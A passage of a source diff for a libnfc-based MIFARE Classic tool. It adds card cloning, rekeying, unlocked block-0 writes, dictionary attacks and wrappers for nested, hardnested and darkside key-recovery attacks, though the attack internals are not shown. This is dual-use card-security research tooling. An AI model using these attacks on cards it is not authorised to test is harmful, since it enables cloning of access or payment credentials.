@@ -45,12 +45,27 @@
  * POSSIBILITY OF SUCH DAMAGE.
  */
 
+#define _POSIX_C_SOURCE 200809L
+
 #include <stdio.h>
+#include <stdlib.h>
+#include <stdint.h>
 #include <string.h>
+#include <time.h>
 #include <nfc/nfc.h>
 #include "mifare.h"
 #include "tag.h"
 #include "mifare_ctrl.h"
+#include "checkpoint.h"
+#include "rekey.h"
+#include "nonces.h"
+#include "retry.h"
+#include "job.h"
+#include "crypto1.h"
+#include "crack.h"
+#include "hardnested.h"
+#include "ksindex.h"
+#include "parallel.h"
 
 // State of the device/tag - should be NULL between high level calls.
 static nfc_device* device = NULL;
@@ -58,6 +73,38 @@ static nfc_target target;
 static mf_size_t size;
 static nfc_context* context;
 
+// Set by mf_authenticate if the tag could not be selected again after
+// a failed authentication, i.e. it has left the field.
+static bool target_lost = false;
+
+// The libnfc error of the last failed authentication
+static int auth_error = 0;
+
+// The UID of the tag a batch is working on. With several tags in the
+// field, every select (after a failed auth or a retry) asks for this
+// one; without it (no bytes) any tag may answer.
+static uint8_t pinned_uid[10];
+static size_t pinned_uid_len = 0;
+
+// The target reader when cloning with two readers. The reader in use
+// is always in 'device' and 'target'; mf_swap_reader swaps them.
+static nfc_device* other_device = NULL;
+static nfc_target other_target;
+
+// Set while the device is kept open between commands, see
+// mf_hold_device. mf_disconnect leaves it open.
+static bool device_held = false;
+
+// Ultralight/NTAG commands. FAST_READ returns a range of pages; the
+// range is limited to what fits in a reader frame.
+#define UL_GET_VERSION 0x60
+#define UL_READ 0x30
+#define UL_FAST_READ 0x3a
+#define UL_FAST_READ_PAGES 0x3c
+
+// Save the dictionary attack checkpoint after this many keys
+#define CHECKPOINT_INTERVAL 16
+
 static const nfc_modulation mf_nfc_modulation = {
   .nmt = NMT_ISO14443A,
   .nbr = NBR_106,
@@ -66,19 +113,48 @@ static const nfc_modulation mf_nfc_modulation = {
 // Buffers used for raw bit/byte writes
 #define MAX_FRAME_LEN 264
 static uint8_t abtRx[MAX_FRAME_LEN];
+static uint8_t abtRxPar[MAX_FRAME_LEN];
 static int szRxBits;
 
+// Nested attack: the probes used to measure the PRNG distance, and the
+// PRNG steps the nonce of a nested auth may be off from that distance
+#define NESTED_CALIBRATION 5
+#define NESTED_TOLERANCE 16
+#define NESTED_MAX_TARGETS (2 * 40)
+
+// Hardened nested attack: nonces are collected until the search is
+// down to 2^HARDNESTED_GOAL states, or up to HARDNESTED_COLLECT nonces
+#define HARDNESTED_GOAL 38
+#define HARDNESTED_COLLECT 8192
+
+// The nonces sampled to tell the PRNG of a tag
+#define PRNG_SAMPLES 8
+
+// The darkside attack gives up on a tag nonce that doesn't come back
+// after this many tries in a row
+#define DARKSIDE_MAX_MISSES 64
+
 
 int mf_connect();
+int mf_open_device();
 int mf_disconnect(int ret_state);
 
 bool mf_configure_device();
 bool mf_select_target();
+bool mf_find_target();
+bool mf_identify_target();
 
 bool mf_authenticate(size_t block,
                      const uint8_t* key,
                      mf_key_type_t key_type);
 
+bool mf_authenticate_retry(size_t block,
+                           const uint8_t* key,
+                           mf_key_type_t key_type);
+
+bool mf_block_cmd(mifare_cmd mc, size_t block, mifare_param* mp,
+                  const mf_tag_t* keys, mf_key_type_t key_type);
+
 bool mf_unlock();
 
 bool mf_read_tag_internal(mf_tag_t* tag,
@@ -89,17 +165,107 @@ bool mf_write_tag_internal(const mf_tag_t* tag,
                            const mf_tag_t* keys,
                            mf_key_type_t key_type);
 
-bool mf_dictionary_attack_internal(mf_tag_t* tag);
+bool mf_read_blocks_internal(mf_tag_t* tag,
+                             const size_t* blocks, size_t count,
+                             const mf_tag_t* keys, mf_key_type_t key_type);
+bool mf_write_range_internal(const mf_tag_t* tag,
+                             size_t first_bit, size_t bits,
+                             const mf_tag_t* keys, mf_key_type_t key_type);
+
+bool mf_read_tag_unlocked_internal(mf_tag_t* tag);
+bool mf_write_tag_unlocked_internal(const mf_tag_t* tag);
+bool mf_fast_block_cmd(mifare_cmd mc, size_t block, mifare_param* mp);
+
+bool mf_read_ultralight_internal(mf_tag_t* tag, size_t* pages);
+size_t mf_ul_page_count();
+bool mf_ul_read(uint8_t cmd, size_t first, size_t last, uint8_t* data);
+
+bool mf_dictionary_attack_internal(mf_tag_t* tag, bool resume);
 
 bool mf_test_auth_internal(const mf_tag_t* keys,
                            mf_size_t size,
                            mf_key_type_t key_type);
 
+bool mf_watch_internal(mf_tag_t* tag,
+                       const mf_tag_t* keys,
+                       const size_t* blocks, size_t count,
+                       mf_key_type_t key_type);
+
+bool mf_collect_nonces_internal(FILE* file, size_t sector,
+                                mf_key_type_t key_type, size_t count);
+
+bool mf_batch_internal(mf_batch_op_t op, mf_key_type_t key_type,
+                       const char* prefix);
+bool mf_batch_tag(mf_batch_op_t op, mf_key_type_t key_type,
+                  const char* prefix, const char* uid_str);
+bool mf_batch_same_tag(const char* uid_str);
+
+bool mf_value_batch_internal(const mf_value_op_t* ops, size_t count,
+                             const mf_tag_t* keys, mf_key_type_t key_type);
+bool mf_value_apply(size_t block, int64_t delta,
+                    const mf_tag_t* keys, mf_key_type_t key_type,
+                    int32_t* old_value);
+bool mf_value_read_back(size_t block, const mf_tag_t* keys,
+                        mf_key_type_t key_type, int32_t* value);
+
+bool mf_clone_internal(const mf_tag_t* keys, mf_key_type_t key_type);
+bool mf_clone_read_sector(mf_tag_t* tag, size_t header_block,
+                          const mf_tag_t* keys, mf_key_type_t key_type);
+bool mf_clone_write_sector(const mf_tag_t* tag, size_t header_block,
+                           const mf_tag_t* keys, mf_key_type_t key_type,
+                           bool unlocked);
+bool mf_clone_present_target(const uint8_t* source_uid, mf_size_t source_size,
+                             bool* unlocked);
+void mf_swap_reader();
+
+bool mf_rekey_internal(const mf_tag_t* old_keys, const mf_tag_t* new_keys,
+                       mf_key_type_t key_type);
+bool mf_rekey_sector(rekey_journal_t* journal, size_t header_block,
+                     const mf_tag_t* old_keys, const mf_tag_t* new_keys,
+                     mf_key_type_t key_type);
+bool mf_rekey_verify(size_t header_block, const mf_tag_t* old_keys,
+                     const mf_tag_t* new_keys, mf_key_type_t key_type,
+                     bool* changed);
+
+bool mf_verify_keys_internal(uint32_t uid, size_t sector,
+                             const uint8_t* keys, size_t count,
+                             mf_key_type_t key_type);
+
+bool mf_nested_internal(size_t sector, mf_key_type_t key_type);
+bool mf_hardnested_internal(size_t sector, mf_key_type_t key_type,
+                            size_t target_sector, mf_key_type_t target_type);
+bool mf_classify_prng_internal();
+bool mf_sample_nonces(uint32_t* nt, size_t count);
+bool mf_dict_index_internal();
+bool mf_static_nested_internal(size_t sector, mf_key_type_t key_type);
+bool mf_unknown_keys(crack_nested_target_t* targets, size_t* count);
+bool mf_darkside_internal(size_t sector, mf_key_type_t key_type);
+bool mf_darkside_sample(size_t block, mf_key_type_t key_type,
+                        crack_darkside_t* sample);
+bool mf_darkside_check(size_t sector, mf_key_type_t key_type, bool* idle);
+bool mf_nested_distance(size_t block, const uint8_t* key,
+                        mf_key_type_t key_type, uint32_t* distance);
+bool mf_nested_probe(size_t block, const uint8_t* key, mf_key_type_t key_type,
+                     size_t nested_block, mf_key_type_t nested_type,
+                     crack_nested_t* sample);
+bool mf_crypto1_auth(size_t block, const uint8_t* key, mf_key_type_t key_type,
+                     crypto1_state_t* s, uint32_t* nt);
+bool mf_raw_mode(bool raw);
+int mf_raw_transceive(const uint8_t* tx, const uint8_t* tx_par, size_t len);
+uint32_t mf_target_uid();
+
+bool mf_wait_for_target();
+bool mf_restart_target();
 
 bool transmit_bits(const uint8_t *pbtTx, const size_t szTxBits);
 bool transmit_bytes(const uint8_t *pbtTx, const size_t szTx);
 
 int mf_disconnect(int ret_state) {
+  if (device_held) {
+    memset(&target, 0, sizeof(target));
+    return ret_state;
+  }
+
   nfc_close(device);
   nfc_exit(context);
   device = NULL;
@@ -107,7 +273,18 @@ int mf_disconnect(int ret_state) {
   return ret_state;
 }
 
-int mf_connect() {
+// Connect to (any) NFC reader and configure it, without looking for
+// a tag. Return 0 on success.
+int mf_open_device() {
+
+  // Already open; just restore the configuration
+  if (device_held) {
+    if (!mf_configure_device()) {
+      printf("Error initializing NFC device\n");
+      return -1;
+    }
+    return 0;
+  }
 
   // Initialize libnfc and set the nfc_context
   nfc_init(&context);
@@ -125,23 +302,47 @@ int mf_connect() {
     return mf_disconnect(-1);
   }
 
+  return 0;
+}
+
+int mf_connect() {
+
+  if (mf_open_device())
+    return -1; // No need to disconnect here
+
   // Try to find a tag
-  if (!mf_select_target() || target.nti.nai.btSak == 0) {
+  bool found = mf_find_target();
+  if (found && target.nti.nai.btSak == 0 &&
+      target.nti.nai.abtAtqa[1] == 0x44) {
+    printf("Found an Ultralight/NTAG tag. Use 'read ul'.\n");
+    return mf_disconnect(-1);
+  }
+  if (!found || target.nti.nai.btSak == 0) {
     printf("Connected to device, but no tag found.\n");
     return mf_disconnect(-1);
   }
 
+  if (!mf_identify_target())
+    return mf_disconnect(-1);
+
+  return 0; // Indicate success - we are now connected
+}
+
+// Check that the selected target is a Mifare Classic tag and set the
+// size. Return false if it isn't.
+bool mf_identify_target() {
+
   // Allow SAK & ATQA == 0. Assume 1k pirate card.
   if (target.nti.nai.btSak == 0 && target.nti.nai.abtAtqa[1] == 0) {
     size = MF_1K;
-    return 0;
+    return true;
   }
 
   // Test if we are dealing with a Mifare Classic compatible tag
   if ((target.nti.nai.btSak & 0x08) == 0) {
     printf("Incompatible tag type: 0x%02x (i.e. not Mifare Classic).\n",
            target.nti.nai.btSak);
-    return mf_disconnect(-1);
+    return false;
   }
 
   // Guessing tag size
@@ -154,27 +355,28 @@ int mf_connect() {
   else {
     printf("Unsupported tag size. ATQA 0x%02x 0x%02x (i.e. not [1|4]K.)\n",
            target.nti.nai.abtAtqa[0], target.nti.nai.abtAtqa[1]);
-    return mf_disconnect(-1);
+    return false;
   }
 
-  return 0; // Indicate success - we are now connected
+  return true;
 }
 
 
 int mf_read_tag(mf_tag_t* tag, mf_key_type_t key_type) {
 
+  // Backdoored tags take the fast path
+  if (key_type == MF_KEY_UNLOCKED)
+    return mf_read_tag_unlocked(tag, MF_INVALID_SIZE);
+
   if (mf_connect())
     return -1; // No need to disconnect here
 
-  if (key_type == MF_KEY_UNLOCKED) {
-    if (!mf_unlock()) {
-      printf("Unlocked read requested, but unlock failed!\n");
-      return false;
-    }
-  }
+  retry_stats_clear();
+  bool res = mf_read_tag_internal(tag, &current_auth, key_type);
+  retry_stats_print_summary();
 
-  if (!mf_read_tag_internal(tag, &current_auth, key_type)) {
-    printf("Read failed!\n");
+  if (!res) {
+    printf(job_cancelled() ? "Read cancelled.\n" : "Read failed!\n");
     return mf_disconnect(-1);
   }
 
@@ -195,33 +397,39 @@ int mf_read_tag(mf_tag_t* tag, mf_key_type_t key_type) {
 }
 
 
-int mf_write_tag(const mf_tag_t* tag, mf_key_type_t key_type) {
+int mf_read_blocks(mf_tag_t* tag, const size_t* blocks, size_t count,
+                   mf_key_type_t key_type) {
+
   if (mf_connect())
     return -1; // No need to disconnect here
 
-  if (key_type == MF_KEY_UNLOCKED) {
-    if (!mf_unlock()) {
-      printf("Unlocked write requested, but unlock failed!\n");
-      return false;
-    }
-  }
+  retry_stats_clear();
+  bool res = mf_read_blocks_internal(tag, blocks, count,
+                                     &current_auth, key_type);
+  retry_stats_print_summary();
 
-  if (!mf_write_tag_internal(tag, &current_auth, key_type)) {
-    printf("Write failed!\n");
+  if (!res) {
+    printf(job_cancelled() ? "Read cancelled.\n" : "Read failed!\n");
     return mf_disconnect(-1);
   }
 
   return mf_disconnect(0);
 }
 
-int mf_dictionary_attack(mf_tag_t* tag) {
 
-  if (mf_connect()) {
+int mf_write_range(const mf_tag_t* tag, size_t first_bit, size_t bits,
+                   mf_key_type_t key_type) {
+
+  if (mf_connect())
     return -1; // No need to disconnect here
-  }
 
-  if (!mf_dictionary_attack_internal(tag)) {
-    printf("Dictionary attack failed!\n");
+  retry_stats_clear();
+  bool res = mf_write_range_internal(tag, first_bit, bits,
+                                     &current_auth, key_type);
+  retry_stats_print_summary();
+
+  if (!res) {
+    printf(job_cancelled() ? "Write cancelled.\n" : "Write failed!\n");
     return mf_disconnect(-1);
   }
 
@@ -229,351 +437,2379 @@ int mf_dictionary_attack(mf_tag_t* tag) {
 }
 
 
-int mf_test_auth(const mf_tag_t* keys,
-                 mf_size_t size,
-                 mf_key_type_t key_type) {
+int mf_write_tag(const mf_tag_t* tag, mf_key_type_t key_type) {
+  // Backdoored tags take the fast path
+  if (key_type == MF_KEY_UNLOCKED)
+    return mf_write_tag_unlocked(tag, MF_INVALID_SIZE);
 
-  if (mf_connect()) {
+  if (mf_connect())
     return -1; // No need to disconnect here
-  }
 
-  if (!mf_test_auth_internal(keys, size, key_type)) {
-    printf("Test authentication failed!\n");
+  retry_stats_clear();
+  bool res = mf_write_tag_internal(tag, &current_auth, key_type);
+  retry_stats_print_summary();
+
+  if (!res) {
+    printf(job_cancelled() ? "Write cancelled.\n" : "Write failed!\n");
     return mf_disconnect(-1);
   }
 
   return mf_disconnect(0);
 }
 
+int mf_read_tag_unlocked(mf_tag_t* tag, mf_size_t tag_size) {
 
-bool mf_configure_device() {
+  if (mf_connect())
+    return -1; // No need to disconnect here
 
-  // Disallow invalid frame
-  if (nfc_device_set_property_bool(device, NP_ACCEPT_INVALID_FRAMES, false) < 0)
-    return false;
+  if (tag_size != MF_INVALID_SIZE)
+    size = tag_size;
 
-  // Disallow multiple frames
-  if (nfc_device_set_property_bool(device, NP_ACCEPT_MULTIPLE_FRAMES, false) < 0)
-    return false;
+  if (!mf_unlock()) {
+    printf("Unlocked read requested, but unlock failed!\n");
+    return mf_disconnect(-1);
+  }
 
-  // Make sure we reset the CRC and parity to chip handling.
-  if (nfc_device_set_property_bool(device, NP_HANDLE_CRC, true) < 0)
-    return false;
+  retry_stats_clear();
+  bool res = mf_read_tag_unlocked_internal(tag);
+  retry_stats_print_summary();
 
-  if (nfc_device_set_property_bool(device, NP_HANDLE_PARITY, true) < 0)
-    return false;
+  if (!res) {
+    printf(job_cancelled() ? "Read cancelled.\n" : "Read failed!\n");
+    return mf_disconnect(-1);
+  }
 
-  // Disable ISO14443-4 switching in order to read devices that emulate
-  // Mifare Classic with ISO14443-4 compliance.
-  if (nfc_device_set_property_bool(device, NP_AUTO_ISO14443_4, false) < 0)
-    return false;
+  return mf_disconnect(0);
+}
 
-  // Activate "easy framing" feature by default
-  if (nfc_device_set_property_bool(device, NP_EASY_FRAMING, true) < 0)
-    return false;
 
-  // Deactivate the CRYPTO1 cipher, it may could cause problems when
-  // still active
-  if (nfc_device_set_property_bool(device, NP_ACTIVATE_CRYPTO1, false) < 0)
-    return false;
+int mf_write_tag_unlocked(const mf_tag_t* tag, mf_size_t tag_size) {
 
-  // Drop explicitely the field
-  if (nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, false) < 0)
-    return false;
+  if (mf_connect())
+    return -1; // No need to disconnect here
 
-  // Override default initialization option, only try to select a tag once.
-  if (nfc_device_set_property_bool(device, NP_INFINITE_SELECT, false) < 0)
-    return false;
+  if (tag_size != MF_INVALID_SIZE)
+    size = tag_size;
 
-  return true;
-}
+  if (!mf_unlock()) {
+    printf("Unlocked write requested, but unlock failed!\n");
+    return mf_disconnect(-1);
+  }
 
-bool mf_select_target() {
-  if (nfc_initiator_select_passive_target(device,
-                                          mf_nfc_modulation,
-                                          NULL,   // init data
-                                          0,      // init data len
-                                          &target) < 0) {
-    return false;
+  retry_stats_clear();
+  bool res = mf_write_tag_unlocked_internal(tag);
+  retry_stats_print_summary();
+
+  if (!res) {
+    printf(job_cancelled() ? "Write cancelled.\n" : "Write failed!\n");
+    return mf_disconnect(-1);
   }
-  return true;
-}
 
-/**
- * Unlocking the card allows writing to block 0 of some pirate cards.
- */
-bool mf_unlock() {
-  static uint8_t  abtHalt[4] = { 0x50, 0x00, 0x00, 0x00 };
+  return mf_disconnect(0);
+}
 
-  // Special unlock command
-  static const uint8_t  abtUnlock1[1] = { 0x40 };
-  static const uint8_t  abtUnlock2[1] = { 0x43 };
 
-  // Disable CRC and parity checking
-  if (nfc_device_set_property_bool(device, NP_HANDLE_CRC, false) < 0)
-    return false;
+int mf_read_ultralight(mf_tag_t* tag, size_t* pages) {
 
-  // Disable easy framing. Use raw send/receive methods
-  if (nfc_device_set_property_bool (device, NP_EASY_FRAMING, false) < 0)
-    return false;
+  if (mf_open_device())
+    return -1; // No need to disconnect here
 
-  // Initialize transmision
-  iso14443a_crc_append(abtHalt, 2);
-  transmit_bytes(abtHalt, 4);
+  if (!mf_find_target()) {
+    printf("Connected to device, but no tag found.\n");
+    return mf_disconnect(-1);
+  }
 
-  // Send unlock
-  if (!transmit_bits (abtUnlock1, 7))
-    return false;
+  // Ultralight and NTAG tags: SAK 0x00, ATQA 0x0044
+  if (target.nti.nai.btSak != 0x00 || target.nti.nai.abtAtqa[1] != 0x44) {
+    printf("Incompatible tag type: SAK 0x%02x ATQA 0x%02x 0x%02x "
+           "(i.e. not Ultralight/NTAG).\n", target.nti.nai.btSak,
+           target.nti.nai.abtAtqa[0], target.nti.nai.abtAtqa[1]);
+    return mf_disconnect(-1);
+  }
 
-  if (!transmit_bytes (abtUnlock2, 1))
-    return false;
+  retry_stats_clear();
+  bool res = mf_read_ultralight_internal(tag, pages);
+  retry_stats_print_summary();
 
-  // Reset reader configuration. CRC and easy framing.
-  if (nfc_device_set_property_bool (device, NP_HANDLE_CRC, true) < 0)
-    return false;
-  if (nfc_device_set_property_bool (device, NP_EASY_FRAMING, true) < 0)
-    return false;
+  if (!res) {
+    printf(job_cancelled() ? "Read cancelled.\n" : "Read failed!\n");
+    return mf_disconnect(-1);
+  }
 
-  return true;
+  return mf_disconnect(0);
 }
 
-bool mf_read_tag_internal(mf_tag_t* tag,
-                          const mf_tag_t* keys, mf_key_type_t key_type) {
-  mifare_param mp;
 
-  static mf_tag_t buffer_tag;
-  clear_tag(&buffer_tag);
+int mf_hold_device() {
+  if (device_held)
+    return 0;
 
-  int error = 0;
+  if (mf_open_device())
+    return -1;
 
-  printf("Reading: ["); fflush(stdout);
+  device_held = true;
+  return 0;
+}
 
-  // Read the card from end to begin
-  for (int block_it = (int)block_count(size) - 1; block_it >= 0; --block_it) {
-    size_t block = (size_t)block_it;
+void mf_release_device() {
+  if (!device_held)
+    return;
 
-    // Print progress for the unlocked read
-    if (key_type == MF_KEY_UNLOCKED && is_trailer_block(block)) {
-      printf("."); fflush(stdout);
+  device_held = false;
+  mf_disconnect(0);
+}
+
+int mf_wait_for_arrival(char* uid_str) {
+  static const struct timespec delay = { .tv_sec = 0, .tv_nsec = 10 * 1000 * 1000 };
+  bool poll = true;
+
+  while (!job_cancelled()) {
+    int res;
+
+    // Let the reader poll on its own (PN532); it returns as soon as a
+    // tag shows up. The period is 150 ms, so cancel is seen quickly.
+    // Other readers get a select every 10 ms.
+    if (poll) {
+      res = nfc_initiator_poll_target(device, &mf_nfc_modulation, 1,
+                                      1, 1, &target);
+      if (res < 0 && res != NFC_ETIMEOUT)
+        poll = false;
+    }
+    else {
+      res = mf_select_target() ? 1 : 0;
+      if (res == 0)
+        nanosleep(&delay, NULL);
     }
 
-    // Authenticate everytime we reach a trailer block
-    // unless we are doing an unlocked read
-    if (key_type != MF_KEY_UNLOCKED && is_trailer_block(block)) {
+    if (res > 0) {
+      uid_str[0] = '\0';
+      for (size_t i = 0; i < target.nti.nai.szUidLen && i < 10; ++i)
+        sprintf(uid_str + 2 * i, "%02x", target.nti.nai.abtUid[i]);
+      return 0;
+    }
+  }
 
-      // Try to authenticate for the current sector
-      uint8_t* key = key_from_tag(keys, key_type, block);
-      if (!mf_authenticate(block, key, key_type)) {
-        // Progress indication and error report
-        printf("0x%02zx", block_to_sector(block));
-        if (block != 3) printf(".");
-        fflush(stdout);
+  return 1;
+}
 
-        block_it -= (int)sector_size(block) - 1; // Skip the rest of the sector blocks
-        error = 1;
-      }
-      else {
-        // Try to read the trailer (only to *read* the access bits)
-        if (nfc_initiator_mifare_cmd(device, MC_READ, (uint8_t)block, &mp)) {
-          // Copy the keys over to our tag buffer
-          key_to_tag(&buffer_tag, keys->amb[block].mbt.abtKeyA, MF_KEY_A, block);
-          key_to_tag(&buffer_tag, keys->amb[block].mbt.abtKeyB, MF_KEY_B, block);
+int mf_wait_for_removal() {
+  static const struct timespec delay = { .tv_sec = 0, .tv_nsec = 20 * 1000 * 1000 };
 
-          // Store the retrieved access bits in the tag buffer
-          memcpy(buffer_tag.amb[block].mbt.abtAccessBits,
-                 mp.mpd.abtData + 6, 4);
-        } else {
-          printf ("\nUnable to read trailer block: 0x%02zx.\n", block);
-          return false;
-        }
-        printf("."); fflush(stdout); // Progress indicator
-      }
-    }
+  while (!job_cancelled()) {
+    // The presence check needs a selected tag. If the last command
+    // left none selected, a select tells if the tag is still here.
+    if (nfc_initiator_target_is_present(device, NULL) < 0 &&
+        !mf_select_target())
+      return 0;
+    nanosleep(&delay, NULL);
+  }
 
-    else { // I.e. not a sector trailer
-      // Try to read out the block
-      if (!nfc_initiator_mifare_cmd(device, MC_READ, (uint8_t)block, &mp)) {
-        printf("\nUnable to read block: 0x%02zx.\n", block);
-        return false;
-      }
-      memcpy(buffer_tag.amb[block].mbd.abtData, mp.mpd.abtData, 0x10);
+  return 1;
+}
+
+
+int mf_clone(mf_key_type_t key_type) {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  // With a second reader, the target goes there
+  nfc_connstring devices[2];
+  size_t n = nfc_list_devices(context, devices, 2);
+  for (size_t i = 0; i < n && other_device == NULL; ++i) {
+    if (strcmp(devices[i], nfc_device_get_connstring(device)) == 0)
+      continue;
+    mf_swap_reader();
+    device = nfc_open(context, devices[i]);
+    if (device && !mf_configure_device()) {
+      nfc_close(device);
+      device = NULL;
     }
+    mf_swap_reader();
   }
 
-  // Terminate progress indicator
-  if (error)
-    printf("] Auth errors in indicated sectors.\n");
-  else
-    printf("] Success!\n");
+  retry_stats_clear();
+  bool res = mf_clone_internal(&current_auth, key_type);
+  retry_stats_print_summary();
 
-  // Success! Copy the data
-  // todo: Or return static ptr?
-  memcpy(tag, &buffer_tag, MF_4K);
+  if (other_device) {
+    nfc_close(other_device);
+    other_device = NULL;
+  }
 
-  return true;
+  if (!res) {
+    printf(job_cancelled() ? "Clone cancelled.\n" : "Clone failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
 }
 
 
-bool mf_write_tag_internal(const mf_tag_t* tag,
-                           const mf_tag_t* keys,
-                           mf_key_type_t key_type) {
+int mf_rekey(const mf_tag_t* new_keys, mf_key_type_t key_type) {
 
-  mifare_param mp;
-  int error = 0;
+  if (mf_connect())
+    return -1; // No need to disconnect here
 
-  printf("Writing %s tag [", sprint_size(size)); fflush(stdout);
+  retry_stats_clear();
+  bool res = mf_rekey_internal(&current_auth, new_keys, key_type);
+  retry_stats_print_summary();
 
-  // Process each sector in turn
-  for (int header_block_it = sector_header_iterator(0);
-       header_block_it != -1;
-       header_block_it = sector_header_iterator(size)) {
-    size_t header_block = (size_t)header_block_it;
+  if (!res) {
+    printf(job_cancelled() ? "Rekey cancelled.\n" : "Rekey failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_nested(size_t sector, mf_key_type_t key_type) {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  if (!mf_nested_internal(sector, key_type)) {
+    printf(job_cancelled() ? "Nested attack cancelled.\n" :
+           "Nested attack failed!\n");
+    mf_raw_mode(false);
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_hardnested(size_t sector, mf_key_type_t key_type,
+                  size_t target_sector, mf_key_type_t target_type) {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  if (!mf_hardnested_internal(sector, key_type, target_sector, target_type)) {
+    printf(job_cancelled() ? "Hardnested attack cancelled.\n" :
+           "Hardnested attack failed!\n");
+    mf_raw_mode(false);
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_classify_prng() {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  if (!mf_classify_prng_internal()) {
+    printf(job_cancelled() ? "PRNG check cancelled.\n" :
+           "PRNG check failed!\n");
+    mf_raw_mode(false);
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_dict_index() {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  if (!mf_dict_index_internal()) {
+    printf(job_cancelled() ? "Indexing cancelled.\n" : "Indexing failed!\n");
+    mf_raw_mode(false);
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_static_nested(size_t sector, mf_key_type_t key_type) {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  if (!mf_static_nested_internal(sector, key_type)) {
+    printf(job_cancelled() ? "Static nested attack cancelled.\n" :
+           "Static nested attack failed!\n");
+    mf_raw_mode(false);
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_darkside(size_t sector, mf_key_type_t key_type) {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  if (!mf_darkside_internal(sector, key_type)) {
+    printf(job_cancelled() ? "Darkside attack cancelled.\n" :
+           "Darkside attack failed!\n");
+    mf_raw_mode(false);
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_verify_keys(uint32_t uid, size_t sector,
+                   const uint8_t* keys, size_t count,
+                   mf_key_type_t key_type) {
+
+  if (mf_connect())
+    return -1; // No need to disconnect here
+
+  if (!mf_verify_keys_internal(uid, sector, keys, count, key_type)) {
+    printf(job_cancelled() ? "Key check cancelled.\n" :
+           "Key check failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_dictionary_attack(mf_tag_t* tag, bool resume) {
+
+  if (mf_connect()) {
+    return -1; // No need to disconnect here
+  }
+
+  if (!mf_dictionary_attack_internal(tag, resume)) {
+    printf("Dictionary attack failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_test_auth(const mf_tag_t* keys,
+                 mf_size_t size,
+                 mf_key_type_t key_type) {
+
+  if (mf_connect()) {
+    return -1; // No need to disconnect here
+  }
+
+  if (!mf_test_auth_internal(keys, size, key_type)) {
+    printf(job_cancelled() ? "Test authentication cancelled.\n" :
+           "Test authentication failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_watch(mf_tag_t* tag,
+             const size_t* blocks, size_t count,
+             mf_key_type_t key_type) {
+
+  if (mf_connect()) {
+    return -1; // No need to disconnect here
+  }
+
+  if (!mf_watch_internal(tag, &current_auth, blocks, count, key_type)) {
+    printf("Watch failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_collect_nonces(const char* fn, size_t sector,
+                      mf_key_type_t key_type, size_t count) {
+
+  if (mf_connect()) {
+    return -1; // No need to disconnect here
+  }
+
+  FILE* file = nonce_file_create(fn);
+  if (file == NULL)
+    return mf_disconnect(-1);
+
+  bool res = mf_collect_nonces_internal(file, sector, key_type, count);
+
+  if (nonce_file_close(file) != 0) {
+    printf("Could not write file: %s\n", fn);
+    res = false;
+  }
+
+  if (!res) {
+    printf("Nonce collection failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_batch(mf_batch_op_t op, mf_key_type_t key_type, const char* prefix) {
+
+  if (mf_connect()) {
+    return -1; // No need to disconnect here
+  }
+
+  if (!mf_batch_internal(op, key_type, prefix)) {
+    printf("Batch failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+int mf_value_batch(const mf_value_op_t* ops, size_t count,
+                   mf_key_type_t key_type) {
+
+  if (mf_connect()) {
+    return -1; // No need to disconnect here
+  }
+
+  retry_stats_clear();
+  bool res = mf_value_batch_internal(ops, count, &current_auth, key_type);
+  retry_stats_print_summary();
+
+  if (!res) {
+    printf(job_cancelled() ? "Value batch cancelled.\n" : "Value batch failed!\n");
+    return mf_disconnect(-1);
+  }
+
+  return mf_disconnect(0);
+}
+
+
+bool mf_configure_device() {
+
+  // Disallow invalid frame
+  if (nfc_device_set_property_bool(device, NP_ACCEPT_INVALID_FRAMES, false) < 0)
+    return false;
+
+  // Disallow multiple frames
+  if (nfc_device_set_property_bool(device, NP_ACCEPT_MULTIPLE_FRAMES, false) < 0)
+    return false;
+
+  // Make sure we reset the CRC and parity to chip handling.
+  if (nfc_device_set_property_bool(device, NP_HANDLE_CRC, true) < 0)
+    return false;
+
+  if (nfc_device_set_property_bool(device, NP_HANDLE_PARITY, true) < 0)
+    return false;
+
+  // Disable ISO14443-4 switching in order to read devices that emulate
+  // Mifare Classic with ISO14443-4 compliance.
+  if (nfc_device_set_property_bool(device, NP_AUTO_ISO14443_4, false) < 0)
+    return false;
+
+  // Activate "easy framing" feature by default
+  if (nfc_device_set_property_bool(device, NP_EASY_FRAMING, true) < 0)
+    return false;
+
+  // Deactivate the CRYPTO1 cipher, it may could cause problems when
+  // still active
+  if (nfc_device_set_property_bool(device, NP_ACTIVATE_CRYPTO1, false) < 0)
+    return false;
+
+  // Drop explicitely the field
+  if (nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, false) < 0)
+    return false;
+
+  // Override default initialization option, only try to select a tag once.
+  if (nfc_device_set_property_bool(device, NP_INFINITE_SELECT, false) < 0)
+    return false;
+
+  return true;
+}
+
+bool mf_select_target() {
